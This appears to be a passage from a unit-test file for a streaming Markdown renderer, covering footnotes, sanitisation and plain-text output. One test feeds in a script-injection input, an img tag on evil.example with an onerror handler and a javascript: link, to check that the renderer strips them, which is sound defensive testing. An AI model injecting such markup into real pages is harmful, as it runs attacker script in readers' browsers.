  it('shows footnotes as written while the answer streams, and as notes once it has ended', () => {
    const answer = 'Claim[^1].\n\nMore text.\n\n[^1]: The source.';
    const streaming = renderer.streaming();
    let blocks = streaming.update('');
    for (let i = 1; i <= answer.length; i += 4) blocks = streaming.update(answer.slice(0, i));
    blocks = streaming.update(answer);
    const live = dom(blocks.map((b) => b.html).join(''));
    expect(live.querySelector('.footnotes, .footnote-ref')).toBeNull();
    expect(live.textContent).toContain('[^1]: The source.');
    const done = streaming.finish(answer);
    expect(done).toEqual(renderer.render(answer));
    expect(dom(done.map((b) => b.html).join('')).querySelector('.footnotes li')?.textContent).toContain('The source.');
  });

  it('sanitizes the live stream like history', () => {
    const streaming = renderer.streaming();
    const blocks = streaming.update('<img src=https://evil.example/x onerror=alert(1)> [x](javascript:alert(1))');
    const el = dom(blocks.map((b) => b.html).join(''));
    expect(el.querySelector('img, a')).toBeNull();
  });

  it('gives the text a reader sees, without Markdown\'s marks, for announcements', () => {
    const renderer = new MarkdownEngine();
    const text = renderer.plainText('## Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n```py\nprint(1)\n```\n\n<b>raw</b>');
    expect(text).toBe('Title\nSome bold and code.\none\ntwo\nA\nB\n1\n2\nprint(1)\n<b>raw</b>');
  });
});
